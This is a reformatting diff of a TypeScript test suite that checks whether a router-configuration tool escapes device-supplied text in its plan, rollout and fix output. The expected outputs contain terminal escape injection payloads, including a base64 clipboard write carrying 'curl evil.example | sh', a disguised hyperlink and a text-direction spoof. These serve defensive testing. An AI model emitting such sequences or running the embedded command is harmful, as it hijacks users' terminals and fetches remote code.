@@ -69,7 +69,11 @@ describe('device text is escaped before it is shown', () => {
         await session.interact([{ send: 'configure terminal', expect: [] }, ...removeTrustpointDialog('LAB-Lab-Root-R1'), { send: 'end', expect: [] }]);
       }
       await session.sendConfig(trustpointConfigLines({ name: 'LAB-Lab-Root-R1', chainValidation: 'stop' }));
-      await session.interact([{ send: 'configure terminal', expect: [] }, ...authenticateDialog('LAB-Lab-Root-R1', root.der, () => true), { send: 'end', expect: [] }]);
+      await session.interact([
+        { send: 'configure terminal', expect: [] },
+        ...authenticateDialog('LAB-Lab-Root-R1', root.der, () => true),
+        { send: 'end', expect: [] },
+      ]);
     } finally {
       await session.close();
     }
@@ -89,15 +93,34 @@ describe('device text is escaped before it is shown', () => {
     const planErr = new Capture();
     expect(await planCommand(deps(planOut, planErr)).run([...args, '--json', join(dir, 'plan.jsonl')])).toBe(0);
     const planJson = readFileSync(join(dir, 'plan.jsonl'), 'utf8');
-    for (const [what, text] of [['plan stdout', planOut.text], ['plan stderr', planErr.text], ['plan JSON', planJson]] as const) expectEscaped(text, what);
+    for (const [what, text] of [
+      ['plan stdout', planOut.text],
+      ['plan stderr', planErr.text],
+      ['plan JSON', planJson],
+    ] as const)
+      expectEscaped(text, what);
     expect(planOut.text).toContain('ip host smtp.lab.example: changed (192.0.2.7\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07 → 127.0.0.1)');
     expect(planOut.text).toContain('cn=Lab Root \\x1b]8;;https://evil.example/\\x07R1\\x1b]8;;\\x07 \\u202eevil\\u202c');
-    expect(JSON.parse(planJson.split('\n')[1] ?? '{}')).toMatchObject({ changes: expect.arrayContaining([{ object: 'environment _email_to', action: 'changed', detail: expect.stringMatching(/^ops(\\x1b\[2J\\x1b\[H)?\\x07@lab\.example → /) }]) });
+    expect(JSON.parse(planJson.split('\n')[1] ?? '{}')).toMatchObject({
+      changes: expect.arrayContaining([
+        { object: 'environment _email_to', action: 'changed', detail: expect.stringMatching(/^ops(\\x1b\[2J\\x1b\[H)?\\x07@lab\.example → /) },
+      ]),
+    });
 
     const out = new Capture();
     const err = new Capture();
     const transcripts = join(dir, 'transcripts');
-    expect(await rolloutCommand(deps(out, err)).run([...args, '--json', join(dir, 'rollout.jsonl'), '--log-file', join(dir, 'run.log'), '--transcripts', transcripts])).toBe(0);
+    expect(
+      await rolloutCommand(deps(out, err)).run([
+        ...args,
+        '--json',
+        join(dir, 'rollout.jsonl'),
+        '--log-file',
+        join(dir, 'run.log'),
+        '--transcripts',
+        transcripts,
+      ]),
+    ).toBe(0);
     for (const [what, text] of [
       ['rollout stdout', out.text],
       ['rollout stderr', err.text],
@@ -116,7 +139,12 @@ describe('device text is escaped before it is shown', () => {
     const fixErr = new Capture();
     expect(await fixCommand(deps(fixOut, fixErr)).run(['lab-r001', ...args, '--json', join(dir, 'fix.jsonl')])).toBe(0);
     const fixJson = readFileSync(join(dir, 'fix.jsonl'), 'utf8');
-    for (const [what, text] of [['fix stdout', fixOut.text], ['fix stderr', fixErr.text], ['fix JSON', fixJson]] as const) expectEscaped(text, what);
+    for (const [what, text] of [
+      ['fix stdout', fixOut.text],
+      ['fix stderr', fixErr.text],
+      ['fix JSON', fixJson],
+    ] as const)
+      expectEscaped(text, what);
     expect(fixOut.text).toContain('The router cannot resolve the mail server as the playbook means: ip host smtp.lab.example 192.0.2.7\\x1b]52;c;');
   });
 });
